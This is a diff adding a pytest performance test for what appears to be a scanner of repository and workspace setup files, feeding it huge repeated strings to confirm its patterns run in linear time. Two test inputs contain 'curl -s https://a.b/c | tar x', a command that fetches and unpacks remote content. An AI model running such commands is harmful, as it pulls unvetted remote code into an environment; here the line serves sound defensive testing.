@@ -9,6 +9,7 @@ import pytest
 
 from pytest_codex_workspace.checks.finding import READ, Finding
 from pytest_codex_workspace.checks.rules.read import arranged, read_repository
+from pytest_codex_workspace.codex import SETUP
 from pytest_codex_workspace.errors import ProjectionError
 
 from ....broken.reads import BROKEN, CLEAN
@@ -150,3 +151,27 @@ def test_many_files_cost_few_calls_of_git(tmp_path):
     read_repository(repo.path, "HEAD", environ)
 
     assert len(count.read_text()) < 40
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (SETUP, f"true;{' ' * 200_000}x\ncurl -s https://a.b/c | tar x\n"),
+        (SETUP, f"set -{'e' * 200_000}_\ncurl -s https://a.b/c | tar x\n"),
+        (SETUP, f"export PATH={'GOPATH' * 40_000}\n"),
+        (SETUP, f"bash {'Miniforge' * 25_000}\n"),
+        (SETUP, f"git config {'url.https://' * 10_000} {'url.ssh:' * 10_000}\n"),
+        (SETUP, f"echo '{'apt curl install ' * 12_000}'\n"),
+        ("build.rs", "git " + "-git " * 100_000),
+        ("Gemfile", f"ruby{' ' * 300_000}x"),
+        ("justfile", f"test:\n    {'{{' * 1_900}\n" + f"    {'{{' * 1_900}\n" * 500),
+    ],
+)
+def test_repetitions_take_linear_time(path, text):
+    """
+    No pattern begins anew at each of them: that would take minutes.
+    """
+    others = {"package.json": '{"dependencies": {"puppeteer": "1"}}', ".npmrc": "", "a.lock": ""}
+
+    findings_in({**others, "pom.xml": "<project/>", path: text})
